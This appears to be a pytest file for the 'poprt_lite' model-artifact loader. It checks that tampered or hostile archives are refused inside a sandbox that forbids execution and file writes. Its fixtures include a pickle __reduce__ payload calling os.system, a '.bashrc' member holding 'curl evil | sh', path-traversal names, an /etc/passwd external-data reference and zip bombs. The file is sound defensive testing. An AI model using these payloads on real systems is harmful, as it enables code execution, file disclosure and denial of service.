@@ -1,0 +1,407 @@
+"""Hostile artifacts: `load_artifact` refuses them with one line, before anything is extracted or run.
+
+Every load here runs inside `sandbox`, which makes pickle, marshal, importlib, exec/eval, zip
+extraction, onnxruntime sessions and any file write raise (and records the attempt), and checks
+afterwards that no module was imported and nothing appeared on disk.
+"""
+
+from __future__ import annotations
+
+import builtins
+import contextlib
+import importlib
+import importlib.util
+import io
+import json
+import marshal
+import os
+import pickle
+import struct
+import sys
+import tempfile
+import time
+import tracemalloc
+import warnings
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import numpy as np
+import onnx
+import onnxruntime
+import pytest
+
+from poprt_lite import compile
+from poprt_lite.artifact import DIGEST_MEMBER, MANIFEST_MEMBER, MODEL_MEMBER, load_artifact, sha256
+from poprt_lite.compiler import CompileOptions
+from poprt_lite.errors import ArtifactError
+from poprt_lite.runtime import ModelRunner
+
+from . import models
+
+Entries = list[tuple[str, bytes]]
+
+
+@pytest.fixture(scope="module")
+def good(tmp_path_factory) -> Path:
+    """A real packed artifact of the small encoder."""
+    folder = tmp_path_factory.mktemp("good")
+    source = folder / "encoder.onnx"
+    onnx.save_model(models.encoder(), source)
+    options = CompileOptions(
+        input_shape={"input_ids": (2, 16), "attention_mask": (2, 16)},
+        pack_args={"max_valid_num": "4", "segment_max_size": "16"},
+    )
+    return compile(source, folder / "m.onnx", output_dir=folder, export_popef=True, options=options).artifact
+
+
+@pytest.fixture(scope="module")
+def good_members(good) -> dict[str, bytes]:
+    with zipfile.ZipFile(good) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def write_zip(path: Path, entries: Entries, compression: int = zipfile.ZIP_STORED) -> Path:
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, which one case wants
+        with zipfile.ZipFile(path, "w", compression=compression) as archive:
+            for name, data in entries:
+                archive.writestr(zipfile.ZipInfo(name), data)
+    return path
+
+
+def resigned(members: dict[str, bytes], manifest: dict | None = None, *, manifest_bytes: bytes | None = None, model: bytes | None = None) -> Entries:
+    """The members with the manifest (and model) replaced and every checksum recomputed, so that
+    only the check under test can fail."""
+    model = members[MODEL_MEMBER] if model is None else model
+    if manifest_bytes is None:
+        manifest = dict(json.loads(members[MANIFEST_MEMBER]) if manifest is None else manifest)
+        manifest["model_sha256"] = sha256(model)
+        manifest_bytes = json.dumps(manifest).encode()
+    return [(MANIFEST_MEMBER, manifest_bytes), (DIGEST_MEMBER, sha256(manifest_bytes).encode()), (MODEL_MEMBER, model)]
+
+
+def patch_header(data: bytes, name: str, *, local: tuple[int, str], central: tuple[int, str], value: int) -> bytes:
+    """Overwrite one field of `name`'s local and central-directory headers (offset, struct format)."""
+    out = bytearray(data)
+    encoded = name.encode()
+    for signature, (offset, fmt), name_at in ((b"PK\x03\x04", local, 30), (b"PK\x01\x02", central, 46)):
+        start = 0
+        while (start := out.find(signature, start)) != -1:
+            if out[start + name_at : start + name_at + len(encoded)] == encoded:
+                struct.pack_into(fmt, out, start + offset, value)
+            start += 4
+    return bytes(out)
+
+
+# --- the sandbox ------------------------------------------------------------------------------
+
+
+def tree(folder: Path) -> list[str]:
+    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))
+
+
+@contextlib.contextmanager
+def sandbox(monkeypatch, *folders: Path):
+    """Forbid executing, importing, unpickling, extracting and writing while the body runs."""
+    attempts: list[str] = []
+
+    def forbidden(what: str) -> Callable:
+        def refuse(*args, **kwargs):
+            attempts.append(what)
+            raise AssertionError(f"{what} called while loading an artifact")
+
+        return refuse
+
+    real_open, real_os_open = io.open, os.open
+
+    def read_only_open(file, mode="r", *args, **kwargs):
+        if any(c in mode for c in "wax+"):
+            attempts.append(f"open({file!r}, {mode!r})")
+            raise AssertionError(f"write to {file!r} while loading an artifact")
+        return real_open(file, mode, *args, **kwargs)
+
+    def read_only_os_open(file, flags, *args, **kwargs):
+        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND):
+            attempts.append(f"os.open({file!r})")
+            raise AssertionError(f"write to {file!r} while loading an artifact")
+        return real_os_open(file, flags, *args, **kwargs)
+
+    targets = [
+        (pickle, "loads"), (pickle, "load"), (pickle, "Unpickler"), (marshal, "loads"), (marshal, "load"),
+        (importlib, "import_module"), (importlib.util, "spec_from_file_location"), (importlib.util, "module_from_spec"),
+        (builtins, "exec"), (builtins, "eval"), (np, "load"),
+        (zipfile.ZipFile, "extract"), (zipfile.ZipFile, "extractall"),
+        (onnxruntime, "InferenceSession"), (tempfile, "mkstemp"), (tempfile, "mkdtemp"),
+    ]
+    before = {folder: tree(folder) for folder in folders}
+    modules = set(sys.modules)
+    with monkeypatch.context() as m:
+        for owner, name in targets:
+            m.setattr(owner, name, forbidden(f"{getattr(owner, '__name__', owner)}.{name}"))
+        m.setattr(builtins, "open", read_only_open)
+        m.setattr(io, "open", read_only_open)
+        m.setattr(os, "open", read_only_os_open)
+        yield attempts
+    assert attempts == []
+    assert set(sys.modules) - modules == set()
+    assert {folder: tree(folder) for folder in folders} == before
+
+
+@pytest.fixture
+def load_refused(monkeypatch, tmp_path, good):
+    """Load `path` in the sandbox; return the ArtifactError message."""
+    load_artifact(good)  # warm up lazy imports, so that the sandbox can insist on none
+    cwd = tmp_path / "cwd"
+    cwd.mkdir()
+    monkeypatch.chdir(cwd)
+
+    def load(path: Path) -> str:
+        with sandbox(monkeypatch, tmp_path, cwd):
+            with pytest.raises(ArtifactError) as info:
+                load_artifact(path)
+        message = str(info.value)
+        assert "\n" not in message
+        return message
+
+    return load
+
+
+def test_good_artifact_loads_in_the_sandbox(monkeypatch, tmp_path, good):
+    load_artifact(good)
+    with sandbox(monkeypatch, tmp_path, good.parent):
+        loaded = load_artifact(good)
+    assert loaded.manifest["pack"]["max_valid_num"] == 4
+
+
+# --- checksums and versions -------------------------------------------------------------------
+
+
+def test_tampered_manifest(load_refused, tmp_path, good_members):
+    manifest = json.loads(good_members[MANIFEST_MEMBER])
+    manifest["pack"]["max_valid_num"] = 400
+    path = write_zip(tmp_path / "a.popef", [*{**good_members, MANIFEST_MEMBER: json.dumps(manifest).encode()}.items()])
+    assert load_refused(path) == f"artifact '{path}': manifest checksum mismatch (corrupted or edited); re-export it"
+
+
+def test_tampered_manifest_checksum(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", [*{**good_members, DIGEST_MEMBER: b"0" * 64}.items()])
+    assert load_refused(path) == f"artifact '{path}': manifest checksum mismatch (corrupted or edited); re-export it"
+
+
+def test_tampered_model(load_refused, tmp_path, good_members):
+    model = bytearray(good_members[MODEL_MEMBER])
+    model[len(model) // 2] ^= 0xFF
+    path = write_zip(tmp_path / "a.popef", [*{**good_members, MODEL_MEMBER: bytes(model)}.items()])
+    assert load_refused(path) == f"artifact '{path}': model checksum mismatch (corrupted or tampered); re-export it"
+
+
+@pytest.mark.parametrize("version", [2, 0, "1", 1.0, True, None])
+def test_unknown_format_version(load_refused, tmp_path, good_members, version):
+    manifest = json.loads(good_members[MANIFEST_MEMBER])
+    manifest["format_version"] = version
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest))
+    assert load_refused(path) == f"artifact '{path}' has format version {version!r}; this poprt-lite reads version 1, re-export it"
+
+
+def test_unknown_format_name(load_refused, tmp_path, good_members):
+    manifest = {**json.loads(good_members[MANIFEST_MEMBER]), "format": "popef"}
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest))
+    assert load_refused(path) == f"artifact '{path}' is not a poprt-lite artifact (format 'popef')"
+
+
+@pytest.mark.parametrize(
+    ("manifest_bytes", "message"),
+    [
+        (b"[1, 2, 3]", "is not a poprt-lite artifact (format 'list')"),
+        (b'"just a string"', "is not a poprt-lite artifact (format 'str')"),
+        (b"{not json", ": manifest is not valid JSON; re-export it"),
+        (b"\xff\xfe\x00garbage", ": manifest is not valid JSON; re-export it"),
+        (b"[" * 200_000 + b"]" * 200_000, ": manifest is not valid JSON; re-export it"),  # nesting bomb
+    ],
+    ids=["list", "string", "syntax", "binary", "deep-nesting"],
+)
+def test_manifest_that_is_not_a_manifest(load_refused, tmp_path, good_members, manifest_bytes, message):
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest_bytes=manifest_bytes))
+    assert load_refused(path) == f"artifact '{path}'{' ' if message[0] != ':' else ''}{message}"
+
+
+def test_model_that_is_not_onnx(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, model=b"\x0a\xff\xff\xff\xff\x0f nonsense"))
+    assert load_refused(path) == f"artifact '{path}': model.onnx is not a valid ONNX model; re-export it"
+
+
+def test_pickle_as_model_is_never_unpickled(load_refused, tmp_path, good_members):
+    """A pickle that would create a file when unpickled, under every checksum recomputed."""
+    marker = tmp_path / "pwned"
+
+    class Exploit:
+        def __reduce__(self):
+            return (os.system, (f"touch {marker}",))
+
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, model=pickle.dumps(Exploit())))
+    assert load_refused(path) == f"artifact '{path}': model.onnx is not a valid ONNX model; re-export it"
+    assert not marker.exists()
+
+
+@pytest.mark.parametrize("location", ["/etc/passwd", "../../secret.bin", "weights.bin"])
+def test_model_with_external_data_is_refused(load_refused, tmp_path, good_members, location):
+    """A runtime would read the file the tensor names: an artifact must hold all its weights."""
+    model = onnx.load_from_string(good_members[MODEL_MEMBER])
+    tensor = model.graph.initializer[0]
+    tensor.ClearField("raw_data")
+    tensor.data_location = onnx.TensorProto.EXTERNAL
+    tensor.external_data.add(key="location", value=location)
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, model=model.SerializeToString()))
+    message = f"artifact '{path}': tensor '{tensor.name}' of model.onnx refers to external data; an artifact must be self-contained"
+    assert load_refused(path) == message
+
+
+# --- members ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("rename", "bad"),
+    [
+        ({MODEL_MEMBER: "/model.onnx"}, "/model.onnx"),
+        ({MODEL_MEMBER: "../model.onnx"}, "../model.onnx"),
+        ({MODEL_MEMBER: "sub/../../model.onnx"}, "sub/../../model.onnx"),
+        ({MANIFEST_MEMBER: "..\\manifest.json"}, "..\\manifest.json"),
+        ({MODEL_MEMBER: "C:/model.onnx"}, "C:/model.onnx"),
+    ],
+    ids=["absolute", "dotdot", "nested-dotdot", "backslash-dotdot", "drive"],
+)
+def test_member_with_unsafe_path(load_refused, tmp_path, good_members, rename, bad):
+    entries = [(rename.get(name, name), data) for name, data in good_members.items()]
+    path = write_zip(tmp_path / "a.popef", entries)
+    assert load_refused(path) == f"artifact '{path}' has a member with an unsafe path {bad!r} (absolute or with '..'); refusing it"
+
+
+def test_extra_member_with_unsafe_path(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", [*good_members.items(), ("../../.bashrc", b"curl evil | sh")])
+    assert load_refused(path) == f"artifact '{path}' has a member with an unsafe path '../../.bashrc' (absolute or with '..'); refusing it"
+
+
+def test_extra_member(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", [*good_members.items(), ("plugin.py", b"import os; os.system('id')")])
+    assert load_refused(path) == f"artifact '{path}' has unexpected members ['plugin.py']; it was not written by poprt-lite"
+
+
+def test_missing_member(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", [(n, d) for n, d in good_members.items() if n != DIGEST_MEMBER])
+    assert load_refused(path) == f"artifact '{path}' is missing members ['manifest.sha256']; it was not written by poprt-lite"
+
+
+def test_duplicate_member(load_refused, tmp_path, good_members):
+    """Two `model.onnx` entries: which one a reader sees depends on the reader; refuse both."""
+    path = write_zip(tmp_path / "a.popef", [*good_members.items(), (MODEL_MEMBER, b"other")])
+    assert load_refused(path) == f"artifact '{path}' holds member 'model.onnx' more than once; refusing it"
+
+
+def test_encrypted_member(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", [*good_members.items()])
+    # general-purpose flag bit 0: encrypted
+    path.write_bytes(patch_header(path.read_bytes(), MODEL_MEMBER, local=(6, "<H"), central=(8, "<H"), value=1))
+    message = f"artifact '{path}' is corrupt (File 'model.onnx' is encrypted, password required for extraction); re-export it"
+    assert load_refused(path) == message
+
+
+def test_unknown_compression_method(load_refused, tmp_path, good_members):
+    path = write_zip(tmp_path / "a.popef", [*good_members.items()])
+    path.write_bytes(patch_header(path.read_bytes(), MODEL_MEMBER, local=(8, "<H"), central=(10, "<H"), value=99))
+    message = f"artifact '{path}' is corrupt (That compression method is not supported); re-export it"
+    assert load_refused(path) == message
+
+
+# --- zip bombs --------------------------------------------------------------------------------
+
+BOMB = 100 * 2**20  # 100 MB of zeros, about 100 KB deflated
+
+
+@pytest.fixture(scope="module")
+def bomb_bytes(good_members) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(MANIFEST_MEMBER, good_members[MANIFEST_MEMBER])
+        archive.writestr(DIGEST_MEMBER, good_members[DIGEST_MEMBER])
+        info = zipfile.ZipInfo(MODEL_MEMBER)
+        info.compress_type = zipfile.ZIP_DEFLATED
+        with archive.open(info, "w") as member:
+            chunk = bytes(2**20)
+            for _ in range(BOMB // len(chunk)):
+                member.write(chunk)
+    data = buffer.getvalue()
+    assert len(data) < BOMB // 500
+    return data
+
+
+def test_zip_bomb(load_refused, tmp_path, bomb_bytes):
+    path = tmp_path / "bomb.popef"
+    path.write_bytes(bomb_bytes)
+    tracemalloc.start()
+    try:
+        message = load_refused(path)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert message == f"artifact '{path}' expands to far more than its size; refusing it (zip bomb?)"
+    assert peak < 10 * 2**20
+
+
+def test_zip_bomb_with_lying_sizes(load_refused, tmp_path, bomb_bytes):
+    """The headers claim 1000 bytes; the reader stops there instead of inflating 100 MB."""
+    data = patch_header(bomb_bytes, MODEL_MEMBER, local=(22, "<I"), central=(24, "<I"), value=1000)
+    path = tmp_path / "bomb.popef"
+    path.write_bytes(data)
+    tracemalloc.start()
+    try:
+        message = load_refused(path)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert message == f"artifact '{path}' is corrupt (Bad CRC-32 for file 'model.onnx'); re-export it"
+    assert peak < 10 * 2**20
+
+
+# --- not an artifact at all ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"not a zip file at all", bytes(np.random.default_rng(3).integers(0, 256, 10_000, dtype=np.uint8)), "onnx"],
+    ids=["empty", "text", "random", "onnx-model"],
+)
+def test_file_that_is_not_a_zip(load_refused, tmp_path, content):
+    path = tmp_path / "a.popef"
+    path.write_bytes(models.encoder().SerializeToString() if content == "onnx" else content)
+    assert load_refused(path) == f"'{path}' is not a poprt-lite artifact (File is not a zip file); compile one with --export_popef"
+
+
+def test_truncated_zip(load_refused, tmp_path, good):
+    path = tmp_path / "a.popef"
+    data = good.read_bytes()
+    path.write_bytes(data[: len(data) - 30])  # the end of the central directory is cut off
+    assert load_refused(path) == f"'{path}' is not a poprt-lite artifact (File is not a zip file); compile one with --export_popef"
+
+
+def test_runner_refuses_before_creating_a_session(monkeypatch, tmp_path, good_members):
+    """The runtime loads through `load_artifact`: a hostile artifact never reaches onnxruntime."""
+    manifest = {**json.loads(good_members[MANIFEST_MEMBER]), "format_version": 99}
+    path = write_zip(tmp_path / "a.popef", resigned(good_members, manifest))
+    with sandbox(monkeypatch, tmp_path):
+        with pytest.raises(ArtifactError, match=r"has format version 99; this poprt-lite reads version 1, re-export it$"):
+            ModelRunner(path)
+
+
+def test_many_members_are_refused_quickly(load_refused, tmp_path, good_members):
+    """50,000 copies of one name: refused at once (no quadratic scan of the member list)."""
+    path = tmp_path / "many.popef"
+    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
+        warnings.simplefilter("ignore")
+        for name, data in good_members.items():
+            archive.writestr(name, data)
+        for _ in range(50_000):
+            archive.writestr(zipfile.ZipInfo("x"), b"")
+    start = time.perf_counter()
+    assert load_refused(path) == f"artifact '{path}' holds member 'x' more than once; refusing it"
+    assert time.perf_counter() - start < 5
